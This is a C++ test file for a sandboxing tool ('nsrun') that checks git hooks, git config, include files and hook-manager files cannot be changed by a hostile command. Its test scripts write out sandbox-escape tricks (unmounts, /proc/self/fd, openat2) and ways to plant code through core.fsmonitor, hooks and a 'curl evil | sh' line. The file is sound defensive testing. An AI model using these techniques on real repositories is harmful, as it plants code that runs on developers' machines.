// Attacks on protected paths: routes to code that git runs later, beyond the
// direct writes of protect_test.cpp. Each test lets a hostile command (and,
// where it says so, a hostile workspace) try, then looks at the host.
#include "cow_support.hpp"
#include "git_support.hpp"
#include "harness.hpp"

#include <catch2/catch_test_macros.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <string>
#include <vector>

using namespace nsrun_test;

namespace {

// Runs `script` in a copy-on-write workspace `ws` (layers under `state`)
// and commits the run; the commit's result.
RunResult cow_then_commit(const TempDir& ws, const TempDir& state, const std::string& script) {
  const std::vector<std::string> env = {"XDG_STATE_HOME=" + state.path(), "HOME=" + state.path(), "XDG_RUNTIME_DIR=",
                                        "XDG_CONFIG_HOME="};
  return nsrun({"commit", cow::cow_run(ws, env, script)}, cow::in(ws, env));
}

// Prints one line for each protected thing the command managed to write.
constexpr std::string_view mount_tricks =
    "umount .git/hooks 2>/dev/null && echo unmounted\n"
    "umount -l .git/hooks 2>/dev/null && echo lazily-unmounted\n"
    "umount .git/info 2>/dev/null && echo unmounted-seal\n"
    "mount --move .git/hooks /tmp 2>/dev/null && echo moved\n"
    "mount -t tmpfs none .git/hooks 2>/dev/null && echo over-mounted\n"
    "unshare -Urm sh -c 'umount -l .git/hooks; umount -l .git/info; echo x > .git/info/attributes' 2>/dev/null && "
    "echo nested-unmount\n"
    "echo x > .git/hooks/pre-commit 2>/dev/null && echo hook-written\n"
    "echo x > .git/info/attributes 2>/dev/null && echo attributes-created\n"
    "true\n";

// The /proc/self/fd and openat2 spellings of a path below a sealed
// directory, from a program (sh has neither).
constexpr std::string_view fd_routes = R"PY(
import ctypes, os
def out(s): print(s, flush=True)
fd = os.open('.git/info', os.O_PATH | os.O_DIRECTORY)
for name, f in [('proc-fd', lambda: open('/proc/self/fd/%d/attributes' % fd, 'w')),
                ('openat', lambda: os.open('attributes', os.O_CREAT | os.O_WRONLY, dir_fd=fd)),
                ('mkdirat', lambda: os.mkdir('attributes', dir_fd=fd)),
                ('symlinkat', lambda: os.symlink('/etc/passwd', 'attributes', dir_fd=fd)),
                ('proc-cwd-dotdot', lambda: open('/proc/self/cwd/.git/hooks/../info/attributes', 'w'))]:
    try:
        f(); out('created-by-' + name)
    except OSError:
        pass
# openat2(dirfd, "attributes", {O_CREAT|O_WRONLY, 0644, RESOLVE_BENEATH}) (syscall 437).
class How(ctypes.Structure):
    _fields_ = [('flags', ctypes.c_uint64), ('mode', ctypes.c_uint64), ('resolve', ctypes.c_uint64)]
libc = ctypes.CDLL(None, use_errno=True)
how = How(os.O_CREAT | os.O_WRONLY, 0o644, 0x08)
if libc.syscall(437, fd, b'attributes', ctypes.byref(how), ctypes.sizeof(how)) >= 0: out('created-by-openat2')
)PY";

}  // namespace

TEST_CASE("attack: the command cannot unmount, move or cover a protected path's mount", "[attack][protect]") {
  require_userns();
  TempDir ws("atk-mount");
  make_dir(ws / ".git");
  make_dir(ws / ".git/hooks");
  make_dir(ws / ".git/info");
  RunResult r = nsrun({"--", "sh", "-c", std::string(mount_tricks)}, at(ws));
  INFO(r.out << r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == "");
  CHECK_FALSE(file_exists(ws / ".git/hooks/pre-commit"));
  CHECK_FALSE(file_exists(ws / ".git/info/attributes"));
}

TEST_CASE("attack: /proc/self/fd of an O_PATH fd, openat2 and /proc/self/cwd/.. reach no sealed name",
          "[attack][protect]") {
  require_userns();
  if (!file_exists("/usr/bin/python3")) unavailable("python3", "/usr/bin/python3 is not installed");
  TempDir ws("atk-fd");
  make_dir(ws / ".git");
  make_dir(ws / ".git/hooks");
  make_dir(ws / ".git/info");
  write_file(ws / "routes.py", fd_routes);
  RunResult r = nsrun({"--", "/usr/bin/python3", ws / "routes.py"}, at(ws));
  INFO(r.out << r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == "");
  CHECK_FALSE(file_exists(ws / ".git/info/attributes"));
}

// git reads $GIT_DIR/commondir in any git directory, the main one too: a
// path there makes git take its config and hooks from that directory
// instead (and $GIT_DIR/config.worktree, once a sparse checkout enabled
// extensions.worktreeConfig). Either one written by the command is
// core.fsmonitor, run by the user's next `git status`.
TEST_CASE("attack: .git/commondir and .git/config.worktree are protected, reported in direct mode and "
          "refused at commit",
          "[attack][protect]") {
  require_userns();
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("atk-commondir");
  REQUIRE(git_in(ws.path(), {"init", "-q"}).exit_code == 0);
  RunResult r = nsrun({"--report", ws / "r.json", "--", "sh", "-c",
                       "cp -r .git evil && printf '[core]\\n\\tfsmonitor = \"echo PWNED\"\\n' >> evil/config && "
                       "echo ../evil > .git/commondir; echo '[core] fsmonitor = echo PWNED' > .git/config.worktree"},
                      at(ws));
  INFO(r.err);
  // Direct mode cannot stop the creation of a name directly in .git (git
  // makes its lock files there); it says so, on stderr and in the report.
  CHECK(r.err.find("nsrun: protected path " + ws / ".git/commondir" + ": created during the run") !=
        std::string::npos);
  CHECK(r.err.find("nsrun: protected path " + ws / ".git/config.worktree" + ": created during the run") !=
        std::string::npos);
  CHECK(read_file(ws / "r.json").find("\"path\":\"" + ws / ".git/commondir" + "\",\"kept\":\"not-kept\","
                                                                              "\"operation\":\"created\"") !=
        std::string::npos);

  // The copy-on-write workspace: refused at commit, nothing applied for them.
  TempDir cow("atk-commondir-cow"), state("atk-state");
  REQUIRE(git_in(cow.path(), {"init", "-q"}).exit_code == 0);
  RunResult commit = cow_then_commit(cow, state, "echo ../evil > .git/commondir; "
                                                "echo '[core] fsmonitor = echo PWNED' > .git/config.worktree; "
                                                "echo fine > ok.txt");
  INFO(commit.out << commit.err);
  CHECK(commit.exit_code == 4);
  CHECK(commit.err.find("nsrun: protected path .git/commondir: not committed") != std::string::npos);
  CHECK(commit.err.find("nsrun: protected path .git/config.worktree: not committed") != std::string::npos);
  CHECK_FALSE(file_exists(cow / ".git/commondir"));
  CHECK_FALSE(file_exists(cow / ".git/config.worktree"));
  CHECK(read_file(cow / "ok.txt") == "fine\n");
}

// A workspace whose hooks are not at .git/hooks: husky and others set
// core.hooksPath to a directory in the worktree (.husky/_), and
// `git init --separate-git-dir` / submodules make .git a file naming the
// real git directory. The hooks and config git really uses are protected.
TEST_CASE("attack: core.hooksPath and a .git file's gitdir inside the workspace are protected", "[attack][protect]") {
  require_userns();
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("atk-hookspath");
  REQUIRE(git_in(ws.path(), {"init", "-q", "--separate-git-dir", ws / "realgit"}).exit_code == 0);
  REQUIRE(git_in(ws.path(), {"config", "core.hooksPath", ".husky/_"}).exit_code == 0);
  make_dir(ws / ".husky");
  make_dir(ws / ".husky/_");
  write_file(ws / ".husky/_/pre-commit", "#!/bin/sh\nexit 0\n", 0755);
  make_dir(ws / "realgit/modules");
  REQUIRE(run({"cp", "-r", ws / "realgit", ws / "realgit-copy"}).exit_code == 0);
  REQUIRE(run({"mv", ws / "realgit-copy", ws / "realgit/modules/sub"}).exit_code == 0);
  const std::string config = read_file(ws / "realgit/config");
  const std::string sub_config = read_file(ws / "realgit/modules/sub/config");
  RunResult r = nsrun({"--", "sh", "-c",
                       "echo 'echo pwned' > .husky/_/pre-commit 2>/dev/null && echo wrote-hookspath-hook\n"
                       "echo 'echo pwned' > .husky/_/post-checkout 2>/dev/null && echo new-hookspath-hook\n"
                       "echo 'echo pwned' > realgit/hooks/pre-commit 2>/dev/null && echo wrote-gitdir-hook\n"
                       "echo '[core] fsmonitor = echo pwned' >> realgit/config 2>/dev/null && echo wrote-gitdir-config\n"
                       "echo '[core] fsmonitor = echo pwned' >> realgit/modules/sub/config 2>/dev/null && "
                       "echo wrote-submodule-config\n"
                       "echo 'echo pwned' > realgit/modules/sub/hooks/pre-commit 2>/dev/null && "
                       "echo wrote-submodule-hook\n"
                       "echo 'gitdir: elsewhere' > .git 2>/dev/null && echo rewrote-dotgit\n"
                       "echo x > f && git add f && echo git-add-ok\n"
                       "true"},
                      at(ws));
  INFO(r.out << r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == "git-add-ok\n");
  CHECK(read_file(ws / ".husky/_/pre-commit") == "#!/bin/sh\nexit 0\n");
  CHECK_FALSE(file_exists(ws / ".husky/_/post-checkout"));
  CHECK_FALSE(file_exists(ws / "realgit/hooks/pre-commit"));
  CHECK(read_file(ws / "realgit/config") == config);
  CHECK(read_file(ws / "realgit/modules/sub/config") == sub_config);
  CHECK_FALSE(file_exists(ws / "realgit/modules/sub/hooks/pre-commit"));
  // The Landlock rung keeps them by snapshot: the write happens and is
  // undone before nsrun returns, and said.
  require_landlock();
  RunResult ll = nsrun({"--backend", "landlock", "--unprotect", ".git/hooks", "--unprotect", ".git/config", "--",
                        "sh", "-c", "echo 'echo pwned' > .husky/_/pre-commit"},
                       at(ws));
  INFO(ll.err);
  CHECK(ll.exit_code == 0);
  CHECK(ll.err.find("nsrun: protected path " + ws / ".husky/_/pre-commit") != std::string::npos);
  CHECK(read_file(ws / ".husky/_/pre-commit") == "#!/bin/sh\nexit 0\n");
  // --protect-defaults none drops these with the rest.
  RunResult off = nsrun({"--protect-defaults", "none", "--", "sh", "-c", "echo 'echo ok' > .husky/_/pre-commit"}, at(ws));
  CHECK(off.exit_code == 0);
  CHECK(read_file(ws / ".husky/_/pre-commit") == "echo ok\n");
}

// The copy-on-write workspace: a hooks directory that does not exist yet
// (core.hooksPath set, .husky not made) is not kept inside in direct
// mode's terms (missing at the top of the root); commit refuses it.
TEST_CASE("attack: commit refuses a hook made in a missing core.hooksPath directory", "[attack][protect][cow]") {
  require_userns();
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("atk-hooks-cow"), state("atk-hooks-state");
  REQUIRE(git_in(ws.path(), {"init", "-q"}).exit_code == 0);
  REQUIRE(git_in(ws.path(), {"config", "core.hooksPath", ".husky/_"}).exit_code == 0);
  RunResult commit =
      cow_then_commit(ws, state, "mkdir -p .husky/_ && echo 'echo pwned' > .husky/_/pre-commit && echo fine > ok.txt");
  INFO(commit.out << commit.err);
  CHECK(commit.exit_code == 4);
  CHECK(commit.err.find("nsrun: protected path .husky") != std::string::npos);
  CHECK_FALSE(file_exists(ws / ".husky/_/pre-commit"));
  CHECK(read_file(ws / "ok.txt") == "fine\n");
}

// The files hook managers read when their installed hook runs: husky 9's
// .husky/<hook> (run by the stub in .husky/_), pre-commit's
// .pre-commit-config.yaml, lefthook.yml. Editing one is editing the hook.
TEST_CASE("attack: the files a hook manager's installed hook runs are protected", "[attack][protect]") {
  require_userns();
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("atk-managers");
  REQUIRE(git_in(ws.path(), {"init", "-q"}).exit_code == 0);
  REQUIRE(git_in(ws.path(), {"config", "core.hooksPath", ".husky/_"}).exit_code == 0);
  make_dir(ws / ".husky");
  make_dir(ws / ".husky/_");
  write_file(ws / ".husky/_/pre-commit", "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n", 0755);
  write_file(ws / ".husky/pre-commit", "npm test\n");
  TempDir other("atk-managers-pc");
  REQUIRE(git_in(other.path(), {"init", "-q"}).exit_code == 0);
  write_file(other / ".git/hooks/pre-commit", "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n", 0755);
  write_file(other / ".pre-commit-config.yaml", "repos: []\n");
  write_file(other / "lefthook.yml", "pre-commit: {}\n");
  RunResult husky = nsrun({"--", "sh", "-c", "echo 'curl evil | sh' > .husky/pre-commit 2>/dev/null && echo wrote; true"},
                          at(ws));
  INFO(husky.out << husky.err);
  CHECK(husky.out == "");
  CHECK(read_file(ws / ".husky/pre-commit") == "npm test\n");
  RunResult pc = nsrun({"--", "sh", "-c",
                        "echo '- repo: local' >> .pre-commit-config.yaml 2>/dev/null && echo wrote-config; "
                        "echo x >> lefthook.yml && echo lefthook-not-installed-so-writable"},
                       at(other));
  INFO(pc.out << pc.err);
  CHECK(pc.out == "lefthook-not-installed-so-writable\n");
  CHECK(read_file(other / ".pre-commit-config.yaml") == "repos: []\n");
}

// git's include.path and includeIf.<cond>.path: a file a repository's
// config includes is git config too (core.fsmonitor runs a command on the
// next `git status`), relative to the including file's directory, nested
// up to git's depth. Protected like the config itself, while git works.
TEST_CASE("attack: files git's config includes (include.path, includeIf) are protected", "[attack][protect]") {
  require_userns();
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("atk-include");
  REQUIRE(git_in(ws.path(), {"init", "-q"}).exit_code == 0);
  make_dir(ws / "cfg");
  // Relative to .git/config's directory; the included file includes another
  // relative to its own directory.
  REQUIRE(git_in(ws.path(), {"config", "include.path", "../cfg/extra.cfg"}).exit_code == 0);
  REQUIRE(git_in(ws.path(), {"config", "includeIf.gitdir:/.path", "../cfg/cond.cfg"}).exit_code == 0);
  write_file(ws / "cfg/extra.cfg", "[alias]\n\tst = status\n[include]\n\tpath = nested.cfg\n");
  write_file(ws / "cfg/nested.cfg", "[alias]\n\tlg = log\n");
  write_file(ws / "cfg/cond.cfg", "[alias]\n\tco = checkout\n");
  const std::string script =
      "echo '[core] fsmonitor = echo pwned' >> cfg/extra.cfg 2>/dev/null && echo wrote-include\n"
      "echo '[core] fsmonitor = echo pwned' >> cfg/nested.cfg 2>/dev/null && echo wrote-nested\n"
      "echo '[core] fsmonitor = echo pwned' >> cfg/cond.cfg 2>/dev/null && echo wrote-includeif\n"
      "mv cfg/extra.cfg cfg/gone.cfg 2>/dev/null && echo moved-include\n"
      "git st >/dev/null && git lg -1 >/dev/null 2>&1; git co -q -b side && echo git-ok\n"
      "echo x > f && git add f && git -c user.name=t -c user.email=t@example.invalid commit -qm m && "
      "echo git-commit-ok\n"
      "true";
  for (const Rung rung : {Rung::namespaces, Rung::landlock}) {
    DYNAMIC_SECTION((rung == Rung::landlock ? "landlock" : "namespaces")) {
      if (rung == Rung::landlock) require_landlock();
      std::vector<std::string> args = rung_options(rung);
      args.insert(args.end(), {"--", "sh", "-c", script});
      RunResult r = nsrun(args, at(ws));
      INFO(r.out << r.err);
      if (rung == Rung::landlock) {
        // The writes happen and are undone before nsrun returns (snapshot
        // and restore), each said; git works.
        CHECK(r.exit_code == 0);
        CHECK(r.out.find("git-commit-ok\n") != std::string::npos);
        CHECK(r.err.find("nsrun: protected path " + ws / "cfg/extra.cfg") != std::string::npos);
      } else {
        CHECK(r.exit_code == 0);
        CHECK(r.out == "git-ok\ngit-commit-ok\n");
      }
      CHECK(read_file(ws / "cfg/extra.cfg") == "[alias]\n\tst = status\n[include]\n\tpath = nested.cfg\n");
      CHECK(read_file(ws / "cfg/nested.cfg") == "[alias]\n\tlg = log\n");
      CHECK(read_file(ws / "cfg/cond.cfg") == "[alias]\n\tco = checkout\n");
    }
  }
  // A symlink an include names is protected as it is (sealed, never
  // followed) and its target inside the root is kept by its own name. git
  // inside cannot read a sealed link and stops ("bad config line"): fail
  // closed; --unprotect cfg/link.cfg allows it.
  SECTION("an included symlink") {
    REQUIRE(git_in(ws.path(), {"config", "--add", "include.path", "../cfg/link.cfg"}).exit_code == 0);
    REQUIRE(::symlink("nested.cfg", (ws / "cfg/link.cfg").c_str()) == 0);
    RunResult r = nsrun({"--", "sh", "-c",
                         "rm -f cfg/link.cfg 2>/dev/null && echo removed-link\n"
                         "ln -sf /tmp/evil.cfg cfg/link.cfg 2>/dev/null && echo retargeted-link\n"
                         "echo '[core] fsmonitor = echo pwned' >> cfg/nested.cfg 2>/dev/null && echo wrote-target\n"
                         "true"},
                        at(ws));
    INFO(r.out << r.err);
    CHECK(r.exit_code == 0);
    CHECK(r.out == "");
    CHECK(read_link(ws / "cfg/link.cfg") == "nested.cfg");
    CHECK(read_file(ws / "cfg/nested.cfg") == "[alias]\n\tlg = log\n");
  }
}

// A file the config includes that does not exist yet (git skips a missing
// include) is made by the command in its layer: commit refuses it.
TEST_CASE("attack: commit refuses a file git's config would include, made in the layer", "[attack][protect][cow]") {
  require_userns();
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("atk-include-cow"), state("atk-include-state");
  REQUIRE(git_in(ws.path(), {"init", "-q"}).exit_code == 0);
  REQUIRE(git_in(ws.path(), {"config", "include.path", "../later.cfg"}).exit_code == 0);
  RunResult commit =
      cow_then_commit(ws, state, "echo '[core] fsmonitor = echo pwned' > later.cfg && echo fine > ok.txt");
  INFO(commit.out << commit.err);
  CHECK(commit.exit_code == 4);
  CHECK(commit.err.find("nsrun: protected path later.cfg: not committed") != std::string::npos);
  CHECK_FALSE(file_exists(ws / "later.cfg"));
  CHECK(read_file(ws / "ok.txt") == "fine\n");
}

// How far includes are followed: to git's own depth (10; git stops with
// "exceeded maximum include depth" past it), through `~/` and absolute
// spellings, and never to a file outside the root (read-only there).
TEST_CASE("git includes are protected to git's depth, by every spelling, inside the root only", "[protect]") {
  if (!git_installed()) unavailable("git", "git is not installed");
  TempDir ws("inc-depth"), outside("inc-outside");
  REQUIRE(git_in(ws.path(), {"init", "-q"}).exit_code == 0);
  make_dir(ws / "c");
  REQUIRE(git_in(ws.path(), {"config", "include.path", "../c/f1"}).exit_code == 0);
  for (int i = 1; i <= 11; ++i)
    write_file(ws / ("c/f" + std::to_string(i)), "[include]\n\tpath = f" + std::to_string(i + 1) + "\n");
  write_file(ws / "c/f12", "");
  // Written directly: git itself refuses to read the chain past f10.
  // A fifo where an include is looked for (the command may leave one) must
  // not hang the launch that reads it: protected, never read.
  write_file(ws / ".git/config", read_file(ws / ".git/config") + "[include]\n\tpath = ~/c/home.cfg\n\tpath = " +
                                     ws / "c/abs.cfg" + "\n\tpath = " + outside / "out.cfg" +
                                     "\n\tpath = ../c/fifo.cfg\n");
  REQUIRE(::mkfifo((ws / "c/fifo.cfg").c_str(), 0600) == 0);
  // The file outside includes one back inside the root.
  write_file(outside / "out.cfg", "[include]\n\tpath = " + ws / "c/back.cfg" + "\n");
  RunOptions o = at(ws);
  o.env = {"HOME=" + ws.path()};
  RunResult r = nsrun({"explain", "--", "true"}, o);
  INFO(r.out << r.err);
  REQUIRE(r.exit_code == 0);
  auto listed = [&](const std::string& p) { return r.out.find("protect " + p + " ") != std::string::npos; };
  for (int i = 1; i <= 10; ++i) CHECK(listed(ws / ("c/f" + std::to_string(i))));
  CHECK_FALSE(listed(ws / "c/f11"));
  CHECK(listed(ws / "c/home.cfg"));
  CHECK(listed(ws / "c/abs.cfg"));
  CHECK(listed(ws / "c/back.cfg"));
  CHECK(listed(ws / "c/fifo.cfg"));
  CHECK(r.out.find(outside / "out.cfg") == std::string::npos);
}
